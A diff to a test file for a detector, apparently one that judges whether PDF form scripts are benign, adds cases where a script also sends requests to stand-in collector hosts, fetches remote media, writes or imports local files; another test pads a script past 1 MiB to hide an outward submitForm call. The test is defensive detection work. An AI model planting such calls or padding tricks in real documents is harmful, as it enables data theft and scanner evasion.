@@ -31,6 +31,15 @@ describe("isFormAutomation", () => {
     expect(explained(formScript)).toBe(true);
   });
 
+  it.each([
+    ["a browser request", 'var r = new XMLHttpRequest(); r.open("GET", "https://collect.example/x");'],
+    ["a media fetch", 'app.media.getURLData("https://collect.example/a.wav", "audio/wav");'],
+    ["a file write", 'this.exportAsText(true, null, "/c/temp/fields.txt");'],
+    ["an XFA data import", 'xfa.host.importData("/c/data/answers.xml");'],
+  ])("does not explain a form script that also makes %s (the callback and file-write lists decide)", (_name, call) => {
+    expect(explained(`${formScript}${call}`)).toBe(false);
+  });
+
   it("does not explain a form script whose outward call is padded past what it reads (1 MiB)", () => {
     const padding = formScript.repeat(Math.ceil((1024 * 1024) / formScript.length));
     expect(explained(`${padding}this.submitForm("http://collector.example/a");`)).toBe(false);
